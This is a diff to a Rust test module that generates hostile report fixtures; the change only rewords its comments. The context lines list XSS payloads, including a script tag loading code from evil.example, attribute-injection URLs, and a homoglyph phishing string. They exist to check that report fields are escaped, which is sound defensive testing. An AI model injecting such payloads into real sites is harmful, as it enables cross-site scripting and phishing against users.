@@ -1,13 +1,13 @@
-//! Reports that mean harm to whoever looks at them: every payload in every place that takes it.
+//! Reports with hostile content: every payload in every field that accepts it.
 
 use getrandom::{SysRng, rand_core::UnwrapErr};
 use serde_json::{Value, json};
 use shared::report::{Report, ReportId, UntrustedReport};
 
-/// A word that no page has of its own: where it appears, the payload has come through.
+/// A word that is in no page itself: where it appears, the payload was shown.
 pub const MARK: &str = "hostile";
 
-/// Texts that would harm a page, a table, a terminal or a reader.
+/// Texts that could harm a page, a table, a terminal or a reader.
 const PAYLOADS: &[&str] = &[
     "<script>alert(1)</script>",
     "</textarea></code></p><script src=//evil.example></script>",
@@ -39,7 +39,7 @@ const PAYLOADS: &[&str] = &[
     "аррӏе.com раураl",
 ];
 
-/// Addresses that mean harm, all of which a form accepts.
+/// Hostile addresses that the form accepts.
 const ADDRESSES: &[&str] = &[
     "https://evil.example/hostile\"><script>alert(1)</script>",
     "https://evil.example/hostile'onclick='alert(1)",
@@ -57,7 +57,7 @@ const ADDRESSES: &[&str] = &[
     "https://-.example/hostile",
 ];
 
-/// Every payload and every address, in every place that takes it.
+/// All payloads and addresses, in every field that accepts them.
 pub fn all() -> Vec<Report> {
     let texts = PAYLOADS.iter().map(|payload| format!("{payload} {MARK}"));
     let many_lines = PAYLOADS.join("\r\n") + "\r\n" + MARK;
@@ -71,7 +71,7 @@ pub fn all() -> Vec<Report> {
     reports
 }
 
-/// A report for each place that a text may stand in.
+/// One report for each field that can contain a text.
 fn places(text: &str) -> Vec<Report> {
     let all = [
         json!({ "type": "other", "text": text }),
@@ -101,7 +101,7 @@ fn address_places(address: &str) -> Vec<Report> {
         .collect()
 }
 
-/// A report, if a form could send it.
+/// A report, if the form could send it.
 fn report(location: &Value, description: &str) -> Option<Report> {
     let report = json!({
         "id": ReportId::random(&mut UnwrapErr(SysRng)),
